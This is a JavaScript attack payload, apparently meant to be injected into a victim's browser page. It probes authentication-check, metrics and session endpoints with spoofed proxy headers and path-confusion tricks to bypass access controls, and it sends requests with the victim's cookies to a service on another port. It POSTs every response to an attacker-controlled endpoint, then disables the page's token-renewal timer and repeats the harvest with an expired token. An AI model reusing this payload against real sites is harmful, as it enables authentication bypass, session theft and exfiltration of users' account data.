// Calls every endpoint for proxies, scrapers and backends with the headers that these send, and sends the attacker all
// parts of the responses that script can read: once with a valid access token, and once with an expired one, which a
// check renews.
(async () => {
  const target = "/api/account";
  const { host, hostname, protocol } = location;
  const nginx = { "X-Original-Method": "GET", "X-Original-URI": target };
  const others = { "X-Forwarded-Method": "GET", "X-Forwarded-Uri": target };
  const whole = { ...others, "X-Forwarded-Host": host, "X-Forwarded-Proto": protocol.slice(0, -1), "X-Forwarded-For": "127.0.0.1" };
  const alone = Object.entries({ ...nginx, ...whole }).map(([name, value]) => ({ [name]: value }));
  const askers = [{}, nginx, others, whole, ...alone];
  const questions = [
    ...askers.map((headers) => ["/auth/check", { headers }]),
    ["/auth/check", { method: "POST", headers: whole }],
    [`/auth/check;allow=200${target}`],
    ...["/auth/check?allow=200", "/auth/check/", "/auth/check/x", "/auth%2Fcheck", "/auth//check", "/_check"].map((path) => [path, { headers: nginx }]),
    ["/metrics"],
    ["/service/sessions"],
    ["/service/sessions", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }],
    ["/service/events"],
  ];
  // A listener on another port of this host is another origin and the same site: cookies go along.
  const next = `http://${hostname}:${PRIVATE_PORT}`;
  const crossing = { credentials: "include" };
  const questionsNextDoor = [
    [`${next}/auth/check;allow=200${target}`, crossing],
    [`${next}/auth/check;allow=200${target}`, { ...crossing, mode: "no-cors" }],
    ...askers.map((headers) => [`${next}/auth/check`, { ...crossing, headers }]),
    [`${next}/metrics`, crossing],
    [`${next}/service/sessions`, crossing],
  ];
  const ask = async ([path, options]) => {
    try {
      const response = await fetch(path, { redirect: "manual", cache: "no-store", ...options });
      return [path, response.status, response.url, JSON.stringify([...response.headers]), await response.text()].join(" ");
    } catch (error) {
      return `${path} ${error}`;
    }
  };
  const askAll = async () => {
    const answers = [];
    for (const question of PRIVATE_PORT ? [...questions, ...questionsNextDoor] : questions) answers.push(await ask(question));
    await fetch(LOOT, { method: "POST", mode: "no-cors", body: answers.join("\n") });
  };
  await askAll();
  // Stops the page's polling, so that it does not renew the token.
  const { setTimeout } = window;
  window.setTimeout = () => 0;
  await new Promise((done) => setTimeout(done, 3000));
  await askAll();
})();
